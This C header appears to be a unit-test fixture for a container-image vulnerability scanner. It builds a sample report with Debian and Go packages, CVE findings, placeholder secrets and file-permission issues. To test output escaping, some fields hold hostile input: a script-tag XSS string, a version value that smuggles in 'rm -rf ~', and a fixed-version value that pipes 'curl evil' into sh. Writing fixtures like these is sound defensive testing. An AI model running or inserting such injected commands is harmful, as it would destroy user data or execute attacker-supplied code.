/*
 * A report with one of everything, built by hand: a Debian image with two Go programs, hostile text
 * in names, and findings of every tier. Out of order on purpose.
 */
#ifndef TESTS_UNIT_IMAGE_REPORT_SAMPLE_H
#define TESTS_UNIT_IMAGE_REPORT_SAMPLE_H

#include "image/report/report.h"
#include "tests/lib/tap.h"

#define SAMPLE_DIGEST "sha256:1111111111111111111111111111111111111111111111111111111111111111"
#define SAMPLE_LAYER0 "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
#define SAMPLE_LAYER1 "sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
#define SAMPLE_EVIL   "<script>alert('\"&')</script> \\ \xe2\x82\xac \xf0\x9f\x92\xa3 \xe2\x80\xae."

static inline struct scan_strs sample_strs(struct scan_report *r, const char *const *texts)
{
	struct scan_strs strs = {.count = 0};

	while (texts[strs.count])
		strs.count++;
	strs.items = rf_arena_array(r->arena, strs.count + 1, sizeof(*strs.items));
	if (!strs.items)
		abort();
	for (size_t i = 0; i < strs.count; i++)
		strs.items[i] = rf_str_of(texts[i]);
	return strs;
}
#define SAMPLE_STRS(r, ...) sample_strs((r), (const char *const[]){__VA_ARGS__, NULL})

/* Where the sample's packages are before scan_report_sort(). */
enum {
	SAMPLE_NET,	/* golang.org/x/net in /app */
	SAMPLE_MAIN,	/* /app */
	SAMPLE_STDLIB,	/* in /app */
	SAMPLE_OPENSSL, /* Debian */
	SAMPLE_TOOL,	/* /tool, a second program */
	SAMPLE_TOOL_STDLIB,
	SAMPLE_EVIL_NPM,
	SAMPLE_PACKAGES,
};

static inline void sample_packages(struct scan_report *r)
{
	static const struct scan_package packages[SAMPLE_PACKAGES] = {
		[SAMPLE_NET] = {PKG_GO, SCAN_PACKAGE_MODULE, RF_STR("Go"),
			RF_STR("golang.org/x/net"), RF_STR("v0.17.0"), .location = RF_STR("/app"),
			.layer = 1, .checksum = RF_STR("h1:abc=")},
		[SAMPLE_MAIN] = {PKG_GO, SCAN_PACKAGE_MAIN, RF_STR("Go"),
			RF_STR("example.com/shop/app"), RF_STR("v1.4.0"),
			.location = RF_STR("/app"), .layer = 1},
		[SAMPLE_STDLIB] = {PKG_GO, SCAN_PACKAGE_STDLIB, RF_STR("Go"), RF_STR("stdlib"),
			RF_STR("1.21.1"), .location = RF_STR("/app"), .layer = 1},
		[SAMPLE_OPENSSL] = {PKG_DPKG, SCAN_PACKAGE_OS, RF_STR("Debian:12"),
			RF_STR("libssl3"), RF_STR("3.0.11-1~deb12u1"), .arch = RF_STR("amd64"),
			.source = RF_STR("openssl"), .license = RF_STR("Apache-2.0 & \"others\""),
			.location = RF_STR("/var/lib/dpkg/status"), .layer = 0},
		[SAMPLE_TOOL] = {PKG_GO, SCAN_PACKAGE_MAIN, RF_STR("Go"),
			RF_STR("example.com/shop/tool"), RF_STR("v0.1.0"),
			.location = RF_STR("/tool"), .layer = 1},
		[SAMPLE_TOOL_STDLIB] = {PKG_GO, SCAN_PACKAGE_STDLIB, RF_STR("Go"), RF_STR("stdlib"),
			RF_STR("1.21.1"), .location = RF_STR("/tool"), .layer = 1},
		[SAMPLE_EVIL_NPM] = {PKG_NPM, SCAN_PACKAGE_LIBRARY, RF_STR("npm"),
			RF_STR(SAMPLE_EVIL), RF_STR("1.0.0; rm -rf ~"),
			.location = RF_STR("/srv/" SAMPLE_EVIL "/package-lock.json"),
			.layer = SCAN_NO_LAYER},
	};

	r->package_count = SAMPLE_PACKAGES;
	r->packages = rf_arena_array(r->arena, SAMPLE_PACKAGES, sizeof(*r->packages));
	if (!r->packages)
		abort();
	memcpy(r->packages, packages, sizeof(packages));
}

#define SAMPLE_FINDINGS 7
#define SAMPLE_V31	"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H"

static inline void sample_findings(struct scan_report *r)
{
	struct scan_finding *f = rf_arena_array(r->arena, SAMPLE_FINDINGS, sizeof(*f));

	if (!f)
		abort();
	r->findings = f;
	r->finding_count = SAMPLE_FINDINGS;
	/* Absent in /app and linked in /tool: package URLs alone do not tell them apart. */
	f[0] = (struct scan_finding){.id = RF_STR("GO-2024-2599"),
		.package = SAMPLE_STDLIB,
		.tier = SCAN_TIER_ABSENT,
		.fixed = SAMPLE_STRS(r, "1.21.8", "1.22.1"),
		.level = VULN_LEVEL_MEDIUM,
		.score_tenths = 53,
		.vector = RF_STR("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L")};
	f[1] = f[0];
	f[1].package = SAMPLE_TOOL_STDLIB;
	f[1].tier = SCAN_TIER_LINKED;
	f[1].symbols = SAMPLE_STRS(r, "net/http.Request.ParseMultipartForm");
	f[2] = (struct scan_finding){.id = RF_STR("GO-2024-2687"),
		.aliases = SAMPLE_STRS(r, "CVE-2023-45288", "GHSA-4v7x-pqxf-cx7m"),
		.summary = RF_STR("HTTP/2 CONTINUATION flood in net/http"),
		.package = SAMPLE_NET,
		.tier = SCAN_TIER_PATH,
		.symbols = SAMPLE_STRS(r, "golang.org/x/net/http2.(*Framer).ReadFrame"),
		.path = SAMPLE_STRS(r, "main.main", "net/http.Serve",
			"golang.org/x/net/http2.(*Framer).ReadFrame"),
		.fixed = SAMPLE_STRS(r, "0.23.0"),
		.level = VULN_LEVEL_HIGH,
		.score_tenths = 75,
		.vector = RF_STR(SAMPLE_V31),
		.known_exploited = true};
	/* Absent everywhere. */
	f[3] = (struct scan_finding){.id = RF_STR("GO-2023-2102"),
		.aliases = SAMPLE_STRS(r, "CVE-2023-39325"),
		.package = SAMPLE_NET,
		.tier = SCAN_TIER_ABSENT,
		.fixed = SAMPLE_STRS(r, "0.17.1"),
		.level = VULN_LEVEL_CRITICAL,
		.score_tenths = 98,
		.vector =
			RF_STR("CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N")};
	f[4] = (struct scan_finding){.id = RF_STR("CVE-2024-0727"),
		.package = SAMPLE_OPENSSL,
		.tier = SCAN_TIER_UNKNOWN,
		.level = VULN_LEVEL_UNRATED};
	f[5] = (struct scan_finding){.id = RF_STR("GHSA-<b>\"'&"),
		.summary = RF_STR(SAMPLE_EVIL),
		.package = SAMPLE_EVIL_NPM,
		.tier = SCAN_TIER_UNKNOWN,
		.fixed = SAMPLE_STRS(r, "2.0.0 && curl evil | sh"),
		.level = VULN_LEVEL_LOW,
		.score_tenths = 20,
		.vector = RF_STR("AV:L/AC:H/Au:N/C:P/I:N/A:N")};
	f[6] = (struct scan_finding){.id = RF_STR("CVE-2023-5678"),
		.package = SAMPLE_OPENSSL,
		.tier = SCAN_TIER_UNKNOWN,
		.fixed = SAMPLE_STRS(r, "3.0.13-1~deb12u1"),
		.level = VULN_LEVEL_LOW,
		.score_tenths = 31,
		.vector = RF_STR("CVSS:3.0/AV:L/AC:L/PR:L/UI:N/S:U/C:L/I:N/A:N"),
		.suppressed = RF_STR("ignored until 2027-01-31: not reachable")};
}

static inline void sample_rest(struct scan_report *r)
{
	static struct scan_layer layers[] = {
		{RF_STR(""), RF_STR(SAMPLE_LAYER0), RF_STR("ADD rootfs.tar /"), 1000},
		{RF_STR(SAMPLE_LAYER1), RF_STR(SAMPLE_LAYER1), RF_STR("COPY app /app"), 2000},
	};
	static struct scan_secret secrets[] = {
		{RF_STR("private-key"), RF_STR("Private key"), RF_STR("high"), RF_STR("/z/key.pem"),
			1, 1, 1, RF_STR("----\xe2\x80\xa6(1704)"), false},
		{RF_STR("aws-access-key-id"), RF_STR("AWS <access> key"), RF_STR("critical"),
			RF_STR("env AWS_KEY"), 0, 0, SCAN_NO_LAYER, RF_STR("AKIA\xe2\x80\xa6(20)"),
			false},
	};
	static struct scan_file files[] = {
		{SCAN_FILE_WORLD_WRITABLE, RF_STR("/etc/" SAMPLE_EVIL), 0, 0666, 0, 0, RF_STR(""),
			RF_STR("")},
		{SCAN_FILE_SETUID, RF_STR("/bin/su"), 0, 04755, 0, 0, RF_STR(""), RF_STR("")},
		{SCAN_FILE_CAPABILITY, RF_STR("/app"), 1, 0755, 0, 0,
			RF_STR("cap_net_bind_service=ep"), RF_STR("")},
	};

	r->layers = layers;
	r->layer_count = RF_ARRAY_LEN(layers);
	r->secrets = secrets;
	r->secret_count = RF_ARRAY_LEN(secrets);
	r->files = files;
	r->file_count = RF_ARRAY_LEN(files);
}

static inline struct scan_report *sample_new(void)
{
	struct scan_report *r = scan_report_new();

	if (!r)
		abort();
	r->target = RF_STR("registry.example/shop/App:1.2");
	r->digest = RF_STR(SAMPLE_DIGEST);
	r->os = (struct pkg_os){"debian", "12", "Debian GNU/Linux 12 (bookworm)", "Debian:12"};
	r->database = (struct scan_database){true, RF_STR("2026-11-20T06:00:00Z"),
		RF_STR("sha256:dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd"),
		SAMPLE_STRS(r, "go-vulndb-osv.tar.zst (4291 advisories)"), 5 * 86400};
	r->config = (struct scan_config){.present = true,
		.user = RF_STR(""),
		.working_dir = RF_STR("/"),
		.entrypoint = SAMPLE_STRS(r, "/app", "--serve"),
		.env = SAMPLE_STRS(r, "PATH=/bin", "AWS_KEY=AKIA\xe2\x80\xa6(20)"),
		.problems = SAMPLE_STRS(r, "runs as root: the config has no USER"),
		.architecture = RF_STR("amd64"),
		.os = RF_STR("linux"),
		.created = RF_STR("2026-11-01T12:00:00.123+02:00")};
	r->notes = SAMPLE_STRS(r, "/opt/x: not read: " SAMPLE_EVIL);
	sample_packages(r);
	sample_findings(r);
	sample_rest(r);
	if (scan_report_sort(r) < 0)
		abort();
	return r;
}

#endif
